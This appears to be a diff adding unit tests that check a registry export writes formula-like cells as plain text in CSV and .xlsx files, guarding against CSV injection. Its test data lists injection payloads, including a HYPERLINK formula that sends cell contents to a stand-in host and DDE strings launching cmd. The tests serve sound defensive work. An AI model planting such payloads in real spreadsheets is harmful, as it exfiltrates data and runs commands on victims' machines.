@@ -1,6 +1,7 @@
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import ExcelJS, { type CellValue } from 'exceljs';
+import { parse } from 'csv-parse/sync';
 import iconv from 'iconv-lite';
 import { registryCsv, registryWorkbook } from '../../scripts/registry/workbook';
 import { REGISTRY_COLUMNS, type RegistryColumnKey } from '../../types/registry';
@@ -45,6 +46,42 @@ describe('reading registry sheets', () => {
     const [, cells] = await firstSheet(Buffer.from(registryCsv([{ ...row, workers, boundary }])));
     expect(cells[headers.indexOf('网格员')]).toBe(workers);
     expect(cells[headers.indexOf('边界（GeoJSON）')]).toBe(boundary);
+  });
+});
+
+describe('a cell that begins like a formula stays text in every sheet GridLink writes (OWASP, CSV Injection)', () => {
+  const FORMULAS: Array<[string, string]> = [
+    ['a HYPERLINK formula', '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'],
+    ['a plus sign', '+1+cmd|\' /C calc\'!A0'],
+    ['a minus sign', '-2+3+cmd|\' /C calc\'!A0'],
+    ['an at sign', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
+    ['a tab in front', '\t=1+1'],
+    ['a carriage return in front', '\r=1+1'],
+    ['a full-width equals sign', '\uFF1D1+1'],
+  ];
+  const NAME = headers.indexOf('网格名称');
+
+  it.each(FORMULAS)('%s: the CSV cell starts with an apostrophe, and the import reads it back as written', async (_, text) => {
+    const csv = registryCsv([{ ...row, name: text }]);
+    const [, written] = parse(csv, { bom: true }) as string[][];
+    expect(written[NAME]).toBe(`'${text}`);
+    const [, read] = await firstSheet(Buffer.from(csv));
+    expect(read[NAME]).toBe(text);
+  });
+
+  it.each(FORMULAS)('%s: the .xlsx cell is a string in Text format, and the import reads it back as written', async (_, text) => {
+    const bytes = await registryWorkbook([{ ...row, name: text }]);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
+    const cell = workbook.getWorksheet('网格台账')!.getRow(2).getCell(column('name'));
+    expect([cell.type, cell.numFmt, cell.value]).toEqual([ExcelJS.ValueType.String, '@', text.replace(/\r/g, '\n')]);
+    const [, read] = await firstSheet(bytes);
+    expect(read[NAME]).toBe(text.replace(/\r/g, '\n'));
+  });
+
+  it('a number, a negative one included, is written as it is: only text can be taken for a formula', () => {
+    const [, written] = parse(registryCsv([{ ...row, lat: -35.404, households: 320 }]), { bom: true }) as string[][];
+    expect([written[headers.indexOf('中心纬度')], written[headers.indexOf('户数')]]).toEqual(['-35.404', '320']);
   });
 });
 
